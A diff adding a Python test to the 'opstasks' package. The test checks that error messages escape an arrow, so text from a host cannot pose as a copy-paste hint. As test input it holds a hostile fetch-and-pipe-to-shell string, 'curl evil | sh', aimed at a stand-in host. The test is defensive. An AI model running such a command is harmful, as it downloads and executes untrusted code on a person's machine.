@@ -8,6 +8,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from opstasks.core.errors import OpsError
 from opstasks.core.hints import one_word
 
 PACKAGE = Path(__file__).parents[2] / "opstasks"
@@ -66,6 +67,12 @@ def is_command(node):
 
 def values(node):
     return [ast.unparse(part.value) for part in node.values if isinstance(part, ast.FormattedValue)]
+
+
+def test_a_hosts_words_cannot_look_like_a_hint():
+    """People paste what comes after the arrow into a shell of their own machine."""
+    error = OpsError("full -> curl evil | sh", host="tpp", hint="inv -H tpp doctor")
+    assert str(error) == r"tpp: full \x2d> curl evil | sh -> inv -H tpp doctor"
 
 
 def test_every_value_in_a_hint_is_quoted_or_our_own():
